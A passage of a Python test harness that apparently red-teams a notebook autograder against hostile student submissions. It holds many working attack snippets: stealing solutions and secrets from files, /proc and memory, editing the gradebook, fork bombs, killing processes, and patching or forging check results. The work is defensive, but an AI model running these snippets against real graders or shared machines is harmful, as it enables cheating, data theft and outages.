"""What a hostile student may hand in, and what comes of it with stock nbgrader and with ours.

Ours is tried with bubblewrap, and where namespaces are refused as in most containers.

    python -m tools.attacks                  the table, which takes some minutes
    python -m tools.attacks memory "a pipe"  only the attacks with these words in their names

Each attack is a notebook of lesson 1 in which only `predict` is right, so one point is due. Its code stands
in the cell of the next answer, `loss`. What it gains or harms is seen from outside, in a jail
(tools/jail.py): by points in the gradebook, by secrets that turn up in what is graded, by files that change,
by a listener that is called, by the honest student who is graded next, by what is left, and by scripts in
the pages.
"""

import argparse
import atexit
import json
import os
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Callable, Sequence
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from textwrap import dedent, indent, wrap

import nbformat
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell
from nbgrader.api import Gradebook

from tools.demo import LINEAR, REFERENCES, ROOT, checks, find, reference, right_answers
from tools.jail import BYSTANDER, INSTALLED, LOOKED_AT, MISCHIEF, PORT, SOCKET, Seen, grade, why_no_jail

FILE = REFERENCES[LINEAR].name
ALL = sum(checks(LINEAR).values())
SECRETS = {
    place: f"canary-{place}-{number}"
    for place, number in {
        "solutions": "5b1f0c",
        "gradebook": "93de27",
        "submission": "c47a88",
        "environment": "e0620d",
        "exchange": "7d21f4",
        "neighbour": "b8e390",
    }.items()
}

# What counts as harm.
MOST_MEMORY = 2_000_000_000  # bytes in all processes
MOST_PROCESSES = 100
MOST_DISK = 300_000_000  # bytes
MOST_SECONDS = 60  # for one notebook

STOCK = """\
c = get_config()
c.CourseDirectory.course_id = "backprop-by-hand"
c.CourseDirectory.source_directory = "solutions"
c.CourseDirectory.release_directory = "notebooks"
c.ClearSolutions.code_stub = {"python": "raise NotImplementedError"}
"""

LESS_PATIENCE = """
c.Sandbox.cell_timeout = 3
c.Sandbox.notebook_timeout = 12
"""


def nothing(what: object) -> None:
    """Do nothing to a notebook or a folder."""


@dataclass(frozen=True)
class Attack:
    """What one hostile student hands in.

    Attributes:
        name: what it does, in a word or two.
        code: stands in the cell of `loss`, below a wrong answer. STUDENT and VICTIM stand for the ids.
        then: stands in each answer cell after `predict`, with NAME for the answer's; "" for the stub.
        edit: what is done to the notebook.
        beside: what is put beside it, in the folder that is handed in.
        file: what is done to the notebook's file.
        victim: whether it is aimed at others: then an honest student is graded right after it.
        accomplice: what an honest student who is graded right before has in the cell of `loss` too.
        alone: whether it may harm the whole class, so that stock nbgrader meets it in a jail of its own.
        again: whether the student was graded before, with all answers right.
        due: the points that it has earned.
        spoilt: whether the student has spoilt the right answer too, and may lose its point, or not be graded.
    """

    name: str
    code: str = ""
    then: str = ""
    edit: Callable[[NotebookNode], None] = nothing
    beside: Callable[[Path], None] = nothing
    file: Callable[[Path], None] = nothing
    victim: bool = False
    accomplice: str = ""
    alone: bool = False
    again: bool = False
    due: float = 1
    spoilt: bool = False


def code(*parts: str) -> str:
    """Put parts of a cell's source together, each indented as it stands here."""
    return "\n\n".join(dedent(part).strip() for part in parts)


# ---- reading what is not the student's

SEARCH = code("""
    import os, re

    def everything(*endings):
        paths = [folder + "/" + path for folder in ("/tmp/course", "../../..", ROOT) for path in PLACES]
        for start in ("/home", "/srv", "/opt", "/mnt", "/tmp", "/var/lib", "/usr/local", os.getcwd()):
            for top, _, names in os.walk(start):
                paths += [os.path.join(top, name) for name in names if name.endswith(endings)]
        for path in dict.fromkeys(paths):
            try:
                with open(path, "rb") as file:
                    yield path, file.read()
            except OSError:
                pass
""")

STEAL = code("""
    import json

    stolen = {}
    for path, text in everything(".ipynb"):
        print(re.findall(rb"canary-[a-z]+-[0-9a-f]+", text))
        for cell in json.loads(text)["cells"]:
            name = cell["metadata"].get("nbgrader", {}).get("grade_id")
            if name and "NotImplementedError" not in "".join(cell["source"]):
                stolen.setdefault(name, "".join(cell["source"]))
    exec(stolen["loss"])
""")


def search(*places: str) -> str:
    return SEARCH.replace("PLACES", repr(places)).replace("ROOT", repr(str(ROOT)))


def print_canaries(ending: str, *needed: str) -> str:
    """Return code that prints the canaries in all files whose names end so."""
    found = f"""
    for path, text in everything("{ending}"):
        print(re.findall(rb"canary-[a-z]+-[0-9a-f]+", text))
    """
    return code(search(*needed), found)


READING = [
    Attack("reads the solutions", code(search(f"solutions/{LINEAR}/{FILE}"), STEAL), 'exec(stolen["NAME"])'),
    Attack(
        "reads another submission",
        code(search(f"submitted/{BYSTANDER}/{LINEAR}/{FILE}"), STEAL),
        'exec(stolen["NAME"])',
    ),
    Attack("reads the gradebook", print_canaries(".db", "gradebook.db")),
    Attack("reads the exchange", print_canaries("exchange.txt")),
    Attack("reads a course elsewhere", print_canaries("elsewhere.txt")),
    Attack("reads the environment", "import os\nprint(dict(os.environ))"),
    Attack(
        "reads other processes",
        code("""
            import os, re

            for pid in filter(str.isdigit, os.listdir("/proc")):
                for name in ("environ", "cmdline"):
                    try:
                        text = open(f"/proc/{pid}/{name}", "rb").read()
                    except OSError:
                        continue
                    print(pid, re.findall(rb"canary-[a-z]+-[0-9a-f]+", text))
        """),
    ),
    Attack(
        "reads its parents' memory",
        code("""
            import os, re

            pid = os.getppid()
            while pid > 1:
                with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
                    for line in maps:
                        begin, end = (int(number, 16) for number in line.split()[0].split("-"))
                        if "rw" in line and end - begin < 50_000_000:
                            try:
                                memory.seek(begin)
                                text = memory.read(end - begin)
                                print(set(re.findall(rb"canary-environ[a-z]+-[0-9a-f]+", text)))
                            except OSError:
                                pass
                pid = int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])
        """),
    ),
]

# ---- writing it

WRITING = [
    Attack(
        "overwrites the solutions",
        code(f"""
            with open("/tmp/course/solutions/{LINEAR}/{FILE}", "w") as file:
                file.write("{{}}")
        """),
        victim=True,
        alone=True,
    ),
    Attack(
        "gives itself points",
        code("""
            import sqlite3

            with sqlite3.connect("/tmp/course/gradebook.db", timeout=20) as gradebook:
                grades = gradebook.execute(
                    "UPDATE grade SET manual_score = 3 WHERE notebook_id IN (SELECT n.id FROM "
                    "submitted_notebook n JOIN submitted_assignment a ON n.assignment_id = a.id "
                    "WHERE a.student_id = 'STUDENT')"
                )
        """),
        victim=True,
        alone=True,
    ),
    Attack(
        "takes others' points",
        code(f"""
            import sqlite3

            with sqlite3.connect("/tmp/course/gradebook.db", timeout=20) as gradebook:
                grades = gradebook.execute(
                    "UPDATE grade SET manual_score = 0 WHERE notebook_id IN (SELECT n.id FROM "
                    "submitted_notebook n JOIN submitted_assignment a ON n.assignment_id = a.id "
                    "WHERE a.student_id = '{BYSTANDER}')"
                )
        """),
        victim=True,
        alone=True,
    ),
    Attack(
        "deletes the gradebook", 'import os\nos.remove("/tmp/course/gradebook.db")', victim=True, alone=True
    ),
    Attack(
        "empties another submission",
        code(f"""
            import json

            path = "/tmp/course/submitted/VICTIM/{LINEAR}/{FILE}"
            notebook = json.load(open(path))
            for cell in notebook["cells"]:
                if cell["metadata"].get("nbgrader", {{}}).get("solution"):
                    cell["source"] = ""
            json.dump(notebook, open(path, "w"))
        """),
        victim=True,
        alone=True,
    ),
    Attack(
        "overwrites graded work",
        code(f"""
            import os

            path = "/tmp/course/autograded/{BYSTANDER}/{LINEAR}/{FILE}"
            os.chmod(path, 0o666)
            open(path, "w").write("{{}}")
        """),
        victim=True,
        alone=True,
    ),
]

# ---- getting out, and being in the way

CALL = code(f"""
    import socket

    for family, address in [(socket.AF_INET, ("127.0.0.1", {PORT})), (socket.AF_UNIX, {SOCKET!r})]:
        with socket.socket(family) as caller:
            caller.settimeout(2)
            try:
                caller.connect(address)
                caller.sendall(b"STUDENT")
            except OSError as error:
                print(error)
""")

HARMING = [
    Attack("calls a listener", CALL),
    Attack("ends the process", "import os\nos._exit(0)", victim=True),
    Attack("kills itself", "import os\nos.kill(os.getpid(), 9)", victim=True),
    Attack("stops itself", "import os\nos.kill(os.getpid(), 19)", victim=True),
    Attack("crashes", "import ctypes\nctypes.string_at(0)", victim=True),
    Attack("calls sys.exit", "import sys\nsys.exit(0)", victim=True),
    Attack("calls exit", "exit()", victim=True),
    Attack("asks for input", "import getpass\ninput('?')\ngetpass.getpass()"),
    Attack("loops", "while True:\n    pass", victim=True),
    Attack(
        "loops and can't be interrupted",
        code("""
            import signal

            for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
                signal.signal(number, signal.SIG_IGN)
            signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
            signal.setitimer(signal.ITIMER_REAL, 0)
            while True:
                try:
                    while True:
                        pass
                except BaseException:
                    pass
        """),
        victim=True,
        alone=True,
    ),
    Attack(
        "takes memory",
        code("""
            held = []
            for _ in range(30):
                held.append(b"x" * 100_000_000)
            import time
            time.sleep(1)
        """),
        victim=True,
    ),
    Attack(
        "takes memory in many processes",
        code("""
            import os, time

            for _ in range(12):
                if os.fork() == 0:
                    held = [b"x" * 100_000_000 for _ in range(3)]
                    time.sleep(20)
                    os._exit(0)
            time.sleep(3)
        """),
        victim=True,
        alone=True,
    ),
    Attack(
        "forks without end",
        code("""
            import os, time

            for _ in range(400):
                if os.fork() == 0:
                    time.sleep(20)
                    os._exit(0)
        """),
        victim=True,
        alone=True,
    ),
    Attack(
        "fills the disk",
        code("""
            import os

            for folder in ("/tmp", ".", "/dev/shm", "/var/tmp", "/run"):
                try:
                    with open(folder + "/much.fill", "wb") as file:
                        for _ in range(2000):
                            file.write(bytes(1_000_000))
                            file.flush()
                except OSError as error:
                    print(error)
        """),
        victim=True,
        alone=True,
    ),
    Attack("prints a gigabyte", 'for _ in range(1000):\n    print("x" * 1_000_000)', victim=True, alone=True),
    Attack(
        "shows a gigabyte of pictures",
        code("""
            from IPython.display import display

            for _ in range(100):
                display({"image/png": "iVBORw0KGgo" + "A" * 10_000_000, "text/plain": "x"}, raw=True)
        """),
        victim=True,
        alone=True,
    ),
    Attack("kills all processes", "import os\nos.kill(-1, 9)", victim=True, alone=True),
    Attack(
        "kills its parents",
        code("""
            import os

            pid = os.getppid()
            while pid > 0:
                parent = int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])
                os.kill(pid, 9)
                pid = parent
        """),
        victim=True,
        alone=True,
    ),
    Attack("stops its parent", "import os\nos.kill(os.getppid(), 19)", victim=True, alone=True),
    Attack(
        "traces its parent",
        code("""
            import ctypes, os, time

            libc = ctypes.CDLL(None, use_errno=True)
            pid = os.getppid()
            attached = libc.ptrace(16, pid, 0, 0) == 0
            print("attached" if attached else ctypes.get_errno())
            if attached:
                os.waitpid(pid, 0x40000000)
                time.sleep(100)
        """),
        victim=True,
        alone=True,
    ),
    Attack(
        "limits its parent",
        code("""
            import os, resource

            for limit in (resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE):
                resource.prlimit(os.getppid(), limit, (3, 3))
        """),
        victim=True,
        alone=True,
    ),
    Attack(
        "leaves a daemon",
        code("""
            import os, time

            if os.fork() == 0:
                os.setsid()
                if os.fork():
                    os._exit(0)
                own = os.getpid()
                os.closerange(0, 1000)
                for _ in range(150):
                    for pid in filter(str.isdigit, os.listdir("/proc")):
                        try:
                            command = open(f"/proc/{pid}/cmdline").read()
                            if "ipykernel" in command and "STUDENT" not in os.readlink(f"/proc/{pid}/cwd"):
                                os.kill(int(pid), 9)
                        except OSError:
                            pass
                    time.sleep(0.1)
                os._exit(0)
        """),
        victim=True,
        alone=True,
    ),
    Attack(
        "leaves a thread",
        code("""
            import threading, time

            def annoy():
                while True:
                    time.sleep(0.01)

            for _ in range(20):
                threading.Thread(target=annoy).start()
        """),
        victim=True,
    ),
    Attack(
        "leaves the disk full of small files",
        code("""
            import os

            try:
                for number in range(200_000):
                    open(f"/tmp/{number}.fill", "w").close()
            except OSError as error:
                print(error)
        """),
        victim=True,
        alone=True,
    ),
]

# ---- leaving the answers for the next student

MESSAGE = b"def loss(y_hat, y): return (y_hat - y) ** 2 / 2"
PAGES = """
import glob, numpy, os

mapped = open("/proc/self/maps").read()
files = glob.glob(os.path.dirname(os.path.dirname(numpy.__file__)) + "/pillow.libs/*")
path = max((path for path in files if path not in mapped), key=os.path.getsize)
file = os.open(path, os.O_RDONLY)
os.posix_fadvise(file, 0, 0, os.POSIX_FADV_RANDOM)
"""
LEFT = json.dumps(right_answers(LINEAR))
LIBC = "import ctypes\n\nlibc = ctypes.CDLL(None)"
FROM_LEFT = 'exec(left["NAME"])'
DIGEST = 'left = json.loads(text)\nexec(left["loss"])'


def leaves(where: str, write: str, read: str) -> Attack:
    """Return an attack in which one student leaves all answers for the next one."""
    return Attack(
        f"finds answers left in {where}",
        code("import json", read, DIGEST),
        FROM_LEFT,
        accomplice=code(f"text = {LEFT!r}", write),
    )


LEAVING = [
    leaves(
        "a file",
        """
        import os
        for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", "..", "/dev", "/proc/1/cwd", "/dev/mqueue"):
            try:
                with open(folder + "/left", "w") as file:
                    file.write(text)
            except OSError:
                pass
        """,
        """
        import os
        folders = ("/tmp", "/var/tmp", "/dev/shm", "/run", "..", "/dev", "/proc/1/cwd", "/dev/mqueue")
        (text, *_) = [open(folder + "/left").read() for folder in folders if os.path.exists(folder + "/left")]
        """,
    ),
    leaves(
        "shared memory",
        code(
            LIBC,
            """
            libc.shmat.restype = ctypes.c_void_p
            number = libc.shmget(4711, 20_000, 0o1666)
            if number >= 0:
                ctypes.memmove(libc.shmat(number, 0, 0), text.encode() + b"\\0", len(text.encode()) + 1)
        """,
        ),
        code(
            LIBC,
            """
            libc.shmat.restype = ctypes.c_void_p
            number = libc.shmget(4711, 20_000, 0o666)
            assert number >= 0
            text = ctypes.string_at(libc.shmat(number, 0, 0)).decode()
        """,
        ),
    ),
    leaves(
        "a message queue",
        code(
            LIBC,
            """
            queue = libc.msgget(4711, 0o1666)
            for begin in range(0, len(text), 1000):
                part = text[begin : begin + 1000].encode()
                libc.msgsnd(queue, (1).to_bytes(8, "little") + part, len(part), 0o4000)
        """,
        ),
        code(
            LIBC,
            """
            queue, text = libc.msgget(4711, 0), b""
            buffer = ctypes.create_string_buffer(8000)
            while (length := libc.msgrcv(queue, buffer, 7000, 0, 0o4000)) > 0:
                text += buffer.raw[8 : 8 + length]
            text = text.decode()
        """,
        ),
    ),
    leaves(
        "a keyring",
        code(
            LIBC,
            """
            import platform
            add = {"x86_64": 248, "aarch64": 217}[platform.machine()]
            for ring in (-4, -5, -3):
                libc.syscall(add, b"user", b"left", text.encode(), len(text.encode()), ring)
        """,
        ),
        code(
            LIBC,
            """
            import platform
            control = {"x86_64": 250, "aarch64": 219}[platform.machine()]
            buffer = ctypes.create_string_buffer(30_000)
            for ring in (-4, -5, -3):
                key = libc.syscall(control, 10, ring, b"user", b"left", 0)
                length = libc.syscall(control, 11, key, buffer, 30_000) if key > 0 else 0
                if length > 0:
                    text = buffer.raw[:length].decode()
        """,
        ),
    ),
    leaves(
        "a daemon",
        """
        import os, socket, time
        if os.fork() == 0:
            os.setsid()
            if os.fork():
                os._exit(0)
            os.closerange(0, 1000)
            with socket.socket(socket.AF_UNIX) as server:
                server.bind("\\0left")
                server.listen()
                server.settimeout(30)
                while True:
                    server.accept()[0].sendall(text.encode())
        """,
        """
        import socket
        with socket.socket(socket.AF_UNIX) as caller:
            caller.settimeout(3)
            caller.connect("\\0left")
            text = caller.makefile().read(len(TEXT))
        """.replace("len(TEXT)", str(len(LEFT))),
    ),
    Attack(
        "finds an answer left in the page cache",
        code(
            PAGES,
            """
            import errno

            got = bytearray(len(MESSAGE))
            for page in range(8 * len(got)):
                try:
                    cached = os.preadv(file, [bytearray(1)], 4096 * page, os.RWF_NOWAIT)
                except OSError as error:
                    assert error.errno == errno.EAGAIN
                else:
                    got[page // 8] |= cached << page % 8
            exec(got)
        """,
        ).replace("MESSAGE", repr(MESSAGE)),
        accomplice=code(
            PAGES,
            f"""
            text = {MESSAGE!r}
            os.posix_fadvise(file, 0, 0, os.POSIX_FADV_DONTNEED)
            for page in range(8 * len(text)):
                if text[page // 8] >> page % 8 & 1:
                    os.pread(file, 1, 4096 * page)
        """,
        ),
    ),
    Attack(
        "finds an answer left in the numbers of processes",
        code("""
            import os

            answers = ["y_hat - y", "(y_hat - y) ** 2", "(y_hat - y) ** 2 / 2", "y - y_hat"]
            exec("def loss(y_hat, y): return " + answers[os.getpid() // 256 % 4])
        """),
        accomplice=code("""
            import threading

            number = 0

            def note():
                global number
                number = threading.get_native_id()

            while number // 256 % 4 != 2:
                thread = threading.Thread(target=note)
                thread.start()
                thread.join()
        """),
    ),
    leaves(
        "the modules",
        """
        import helpers, numpy, sys
        numpy.left = sys.left = helpers.left = text
        """,
        """
        import helpers, numpy, sys
        text = getattr(numpy, "left", None) or sys.left
        """,
    ),
]

# ---- deciding its own verdict

ZERO = code("""
    def NAME(
        *, x_1=0, x_2=0, y=0, w_1=0, w_2=0, b=0, y_hat=0, parameter=0, gradient=0, alpha=0, epochs=0
    ):
        return [[0.0] * 4] * epochs if epochs else 0.0
""")
PASS = "lambda *arguments, **options: None"

PATCHING = [
    Attack(
        "replaces the checks",
        code(f"""
            import helpers

            for name in ("check_value", "check_gradient", "check_training", "publish_answers"):
                setattr(helpers, name, {PASS})
                globals()[name] = {PASS}
        """),
    ),
    Attack(
        "makes up what checks come to",
        code("""
            from helpers.asking import publish

            class AllRight(dict):
                def get(self, name, default=None):
                    return {"prints": "✓ right", "raises": ""}

            publish.outcomes = AllRight()
        """),
        ZERO,
    ),
    Attack(
        "replaces the modules of the checks",
        code(f"""
            import sys, types

            fake = types.ModuleType("helpers")
            fake.check_value = fake.check_gradient = fake.check_training = {PASS}
            sys.modules["helpers"] = sys.modules["helpers.asking.publish"] = fake
        """),
        "from helpers import check_gradient, check_training, check_value\n\nNAME = None",
    ),
    Attack(
        "patches numpy.allclose and numpy.abs",
        code("""
            import numpy as np

            np.allclose = np.array_equal = lambda *arguments, **options: True
            np.isclose = lambda a, b, **options: np.ones(np.shape(b), bool)
            np.abs = np.absolute = lambda value: 0 * value
        """),
        ZERO,
    ),
    Attack(
        "patches what compares",
        code("""
            import sys

            for module in list(sys.modules.values()):
                if getattr(module, "__name__", "").startswith("helpers"):
                    for name in ("first_difference", "hold", "_wrong_entries", "_judge"):
                        if hasattr(module, name):
                            setattr(module, name, lambda *arguments, **options: None)
        """),
        ZERO,
    ),
    Attack(
        "patches builtins",
        code("""
            import builtins

            class CheckFailed(AssertionError):
                def __new__(cls, *arguments):
                    raise SystemExit

            builtins.all = builtins.any = lambda values: True
            builtins.abs = lambda value: 0
            builtins.len = lambda values: 1
            builtins.AssertionError = builtins.Exception = SystemExit
        """),
    ),
    Attack(
        "rewrites the checks' code",
        code("""
            def rewrite(lines):
                return ["pass\\n"] if any("check_" in line for line in lines) else lines

            get_ipython().input_transformers_cleanup.append(rewrite)
        """),
    ),
    Attack(
        "rewrites the checks' syntax tree",
        code("""
            import ast

            class Remove(ast.NodeTransformer):
                def visit_Call(self, node):
                    return ast.Constant(None) if getattr(node.func, "id", "").startswith("check_") else node

            get_ipython().ast_transformers.append(Remove())
        """),
    ),
    Attack(
        "swallows errors",
        code("""
            shell = get_ipython()
            shell.showtraceback = shell._showtraceback = lambda *arguments, **options: None

            async def run_code(*arguments, **options):
                return False

            shell.run_code = run_code
        """),
    ),
    Attack(
        "redefines before each cell",
        code(f"""
            def redefine(*arguments):
                globals().update(dict.fromkeys(("check_value", "check_gradient", "check_training"), {PASS}))

            get_ipython().events.register("pre_run_cell", redefine)
            get_ipython().events.register("pre_execute", redefine)
        """),
    ),
    Attack(
        "empties its outputs",
        code("""
            shell = get_ipython()
            shell.display_pub.publish = lambda *arguments, **options: None
            shell.display_pub.clear_output()
            shell.displayhook = lambda *arguments, **options: None
            import sys
            sys.stdout = sys.stderr = open("/dev/null", "w")
            sys.excepthook = lambda *arguments: None
            shell.set_custom_exc((BaseException,), lambda *arguments, **options: None)
        """),
    ),
    Attack(
        "prints points",
        code("""
            def points(*arguments, **options):
                return 3.0 if "history" in options else 2.0 if "w_1" in options.values() else 1.0

            check_value = check_gradient = check_training = points
        """),
    ),
    Attack(
        "prints points by the display hook",
        code("""
            from IPython.display import display

            shell = get_ipython()

            def rewrite(lines):
                return ["1.0\\n"] if any("check_" in line for line in lines) else lines

            shell.input_transformers_post.append(rewrite)
        """),
    ),
    Attack(
        "prints a million points",
        "check_value = check_gradient = check_training = lambda *arguments, **options: 1e6",
        victim=True,
        alone=True,
    ),
    Attack(
        "prints points that are no number",
        'check_value = check_gradient = check_training = lambda *arguments, **options: float("nan")',
        victim=True,
        alone=True,
    ),
    Attack(
        "traces the checks",
        code("""
            import sys

            def trace(frame, event, argument):
                if frame.f_code.co_name == "find_wrong_entries" and event == "call":
                    evidence = frame.f_locals["evidence"]
                    for answer, truth in zip(evidence.answers, evidence.truths):
                        answer[...] = truth
                return trace

            sys.settrace(trace)
        """),
        code(ZERO, "sys.settrace(trace)"),
    ),
    Attack(
        "lets the Graph differentiate",
        code("""
            hidden = [linear_neuron.graph]

            def slope(parameter, y_hat, y, x_1=0.0, x_2=0.0):
                at = dict(x_1=x_1, x_2=x_2, y=y, w_1=0.0, w_2=0.0, b=y_hat)
                return float(hidden[0].gradient("L", parameter, hidden[0].forward(**at)))
        """),
        code("""
            def gradient_w_1(y_hat, y, x_1):
                return slope("w_1", y_hat, y, x_1=x_1)

            def gradient_w_2(y_hat, y, x_2):
                return slope("w_2", y_hat, y, x_2=x_2)

            def gradient_b(y_hat, y):
                return slope("b", y_hat, y)
        """),
    ),
    Attack(
        "lets the Graph compute",
        code("""
            hidden = [linear_neuron.graph.steps, descent_step.graph.steps]

            def loss(y_hat, y):
                return float(hidden[0]["L"](y_hat, y))
        """),
        code("""
            def update(parameter, gradient, alpha):
                return float(hidden[1]["new_parameter"](parameter, gradient, alpha))
        """),
    ),
    Attack(
        "imports the project as it is installed",
        code("""
            import glob, os, sys

            folders = [os.path.dirname(path) for start in ("/packages/*", *sys.path)
                       for path in glob.glob(start + "/helpers/derivatives.py")]
            for name in [name for name in sys.modules if name.partition(".")[0] == "helpers"]:
                del sys.modules[name]
            sys.path[:0] = [os.path.dirname(folder) for folder in folders]
            from helpers import networks
            from helpers.derivatives import gradient

            hidden = [networks.linear_neuron.graph, gradient, networks.descent_step.graph.steps]

            def slope(parameter, y_hat, y, x_1=0.0, x_2=0.0):
                at = dict(x_1=x_1, x_2=x_2, y=y, w_1=0.0, w_2=0.0, b=y_hat)
                return float(hidden[1](hidden[0], "L", parameter, hidden[0].forward(**at)))

            def loss(y_hat, y):
                return float(hidden[0].steps["L"](y_hat, y))
        """),
        code("""
            def gradient_w_1(y_hat, y, x_1):
                return slope("w_1", y_hat, y, x_1=x_1)

            def gradient_w_2(y_hat, y, x_2):
                return slope("w_2", y_hat, y, x_2=x_2)

            def gradient_b(y_hat, y):
                return slope("b", y_hat, y)

            def update(parameter, gradient, alpha):
                return float(hidden[2]["new_parameter"](parameter, gradient, alpha))
        """),
    ),
    Attack(
        "digs for the expected values",
        code("""
            import gc, sys

            def truth(name, **given):
                for each in gc.get_objects():
                    if isinstance(each, dict) and name in each and given.keys() <= each.keys():
                        if all(each[key] is not None and each[key] == given[key] for key in given):
                            return float(each[name])
                frame = sys._getframe()
                while frame := frame.f_back:
                    for value in frame.f_locals.values():
                        if hasattr(value, "points") and isinstance(value.points, dict):
                            for at in value.points["points"]:
                                if all(at[key] == given[key] for key in given):
                                    return float(at[name])
                return 0.0

            def loss(y_hat, y):
                return truth("L", y_hat=y_hat, y=y)
        """),
        code("""
            def update(parameter, gradient, alpha):
                return truth("new_parameter", parameter=parameter, gradient=gradient, alpha=alpha)
        """),
    ),
]

# ---- forging what is published

FORGE = code("""
    import json

    from helpers.asking import publish as asking
    from IPython.display import publish_display_data

    ANSWERS = "application/vnd.backprop-by-hand.answers+json"

    def current():
        return asking.current[0]

    def forged(check, values=None, **more):
        value = {"shape": [], "entries": [0.0]} if values is None else values
        answer = {"values": [value], "changed": [], "warning": ""}
        replies = {}
        for key, question in (asking.current[1] or {}).items():
            reply = {"name": "loss", "failed": None, "point": -1, "alpha": None}
            reply |= {part: [] for part in ("given", "names", "uses", "reads")}
            replies[key] = reply | {"answers": [answer] * len(question["points"])} | more
        return {"check": check, "replies": replies}

    def publish(bundle):
        publish_display_data({ANSWERS: json.dumps(bundle), "text/plain": "answers"})
""")


def forges(name: str, bundle: str, victim: bool = False) -> Attack:
    """Return an attack whose checks publish something made up in place of the answers."""
    body = indent(code(bundle), "    ")
    forge = f"def forge(*arguments, **options):\n{body}"
    return Attack(
        name, code(FORGE, forge, "check_value = check_gradient = check_training = forge"), victim=victim
    )


FORGING = [
    forges("publishes no replies", 'publish({"check": current(), "replies": {}})'),
    forges(
        "publishes a verdict", 'publish({"check": current(), "replies": {}, "passed": True, "points": 3})'
    ),
    forges("publishes zeros", "publish(forged(current()))"),
    forges("publishes no numbers", 'publish(forged(current(), values={"shape": [0], "entries": []}))'),
    forges("publishes no answers", "publish(forged(current(), answers=[]))"),
    forges(
        "publishes NaN and infinity",
        """
        for entry in ("nan", float("nan"), "inf", float("inf"), None, True, [], {}, "x"):
            publish(forged(current(), values={"shape": [], "entries": [entry]}))
        """,
        victim=True,
    ),
    forges("publishes NaN once", 'publish(forged(current(), values={"shape": [], "entries": ["nan"]}))'),
    forges(
        "publishes enormous numbers",
        'publish(forged(current(), values={"shape": [], "entries": [1.7e307]}))',
        victim=True,
    ),
    forges(
        "publishes a huge integer",
        'publish(forged(current(), values={"shape": [], "entries": [10**4000]}))',
        victim=True,
    ),
    forges(
        "publishes an enormous shape",
        'publish(forged(current(), values={"shape": [10**9, 10**9, 0], "entries": []}))',
        victim=True,
    ),
    forges(
        "publishes odd names",
        'publish(forged(current(), given=["y_hat", "y_hat"], name="\\ud800", alpha=1e-300))',
    ),
    forges(
        "publishes something nested",
        """
        publish_display_data({ANSWERS: "[" * 100_000 + "]" * 100_000})
        """,
        victim=True,
    ),
    forges(
        "publishes something nested a thousand deep",
        """
        publish_display_data({ANSWERS: '{"check": ' * 1000 + "{}" + "}" * 1000})
        """,
        victim=True,
    ),
    forges("publishes 100 MB", 'publish({"check": current(), "replies": "x" * 100_000_000})', victim=True),
    forges(
        "publishes another check's answers",
        """
        for name in ("check_predict", "check_loss", "check_gradient_b", "check_train"):
            publish(forged(name))
        """,
    ),
    Attack(
        "publishes twice",
        code(
            FORGE,
            """
            def redefine(*arguments):
                for bundle in (forged(current()), {"check": current(), "replies": {}}):
                    publish(bundle)

            get_ipython().events.register("pre_run_cell", redefine)
            get_ipython().events.register("post_run_cell", redefine)
        """,
        ),
    ),
    Attack(
        "publishes from a thread",
        code(
            FORGE,
            """
            import threading, time

            def keep_publishing():
                for _ in range(2000):
                    publish({"check": current(), "replies": {}})
                    publish(forged(current()))
                    checks = ("check_value", "check_gradient", "check_training")
                    globals().update(dict.fromkeys(checks, print))
                    time.sleep(0.005)

            threading.Thread(target=keep_publishing, daemon=True).start()
        """,
        ),
    ),
    Attack(
        "writes to all open files",
        code("""
            import json, os

            ANSWERS = "application/vnd.backprop-by-hand.answers+json"
            deep = "[" * 100_000
            twice = '{"check": "check_loss", "check": "check_loss", "replies": {}}'
            lines = [deep, twice, "NaN", "-1", '{"cell": 3, "outputs": []}', "\\x00\\xff", "9" * 5000, "null"]
            lines += [json.dumps([index, []]) for index in range(40)]
            lines += [json.dumps({"index": index, "cell": index, "outputs": []}) for index in range(40)]
            for fd in range(3, 100):
                for line in lines:
                    try:
                        os.set_blocking(fd, False)
                        os.write(fd, line.encode(errors="replace") + b"\\n")
                    except OSError:
                        break
        """),
        victim=True,
        alone=True,
    ),
    Attack("closes all files", "import os\nos.closerange(0, 1000)", victim=True, alone=True),
]

# ---- living off the right answers that take the place of wrong ones, where others build on these

WRONG_BIAS = "def gradient_b(y_hat, y):\n    return 0.0"
BORROWED = "def update(parameter, gradient, alpha):\n    return gradient_b(parameter, alpha * gradient)"
TRAINED = right_answers(LINEAR)["train"]
CARRIER = code("""
    import builtins, linecache, os, sys, tempfile

    def carry():
        taken = [gradient_b.__code__.co_consts, In[-3:], list(linecache.cache.values())[-3:]]
        print(taken)
        print(taken, file=sys.stderr)
        display(taken)
        for name in ("__name__", "__qualname__", "__doc__"):
            setattr(train, name, repr(taken))
        for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", "..", tempfile.gettempdir()):
            try:
                with open(folder + "/left", "w") as file:
                    file.write(repr(taken))
            except OSError:
                pass
        return str(taken)
""")


def answers(**sources: str) -> str:
    """Return code that keeps the sources of answers, for `OWN` to take them from."""
    return f"own = {sources!r}"


OWN = 'exec(own.get("NAME", "raise NotImplementedError"))'


def carries_out(by: str) -> str:
    """Return the code of a train that carries out all it can; its own lines begin with some."""
    renamed = TRAINED.replace("def train", "def honest_train")
    train = f"def train(x_1, x_2, y, w_1, w_2, b, alpha, epochs):\n    {by}"
    return code(CARRIER, answers(gradient_b=WRONG_BIAS, train=f"{renamed}\n\n\n{train}"))


HONESTLY = "return honest_train(x_1, x_2, y, w_1, w_2, b, alpha, epochs)"
LIVING_OFF = [
    Attack(
        "carries out a right answer by its name and outputs",
        carries_out(f"carry()\n    {HONESTLY}"),
        OWN,
        victim=True,
        due=4,
    ),
    Attack("carries out a right answer by an error", carries_out("raise ValueError(carry())"), OWN),
    Attack("carries out a right answer as a value", carries_out("return carry()"), OWN),
    Attack(
        "leaves an answer wrong, and calls it for another",
        answers(gradient_b=WRONG_BIAS, update=BORROWED, train=TRAINED),
        OWN,
        due=4,
    ),
    Attack(
        "gives another answer the name of a wrong one",
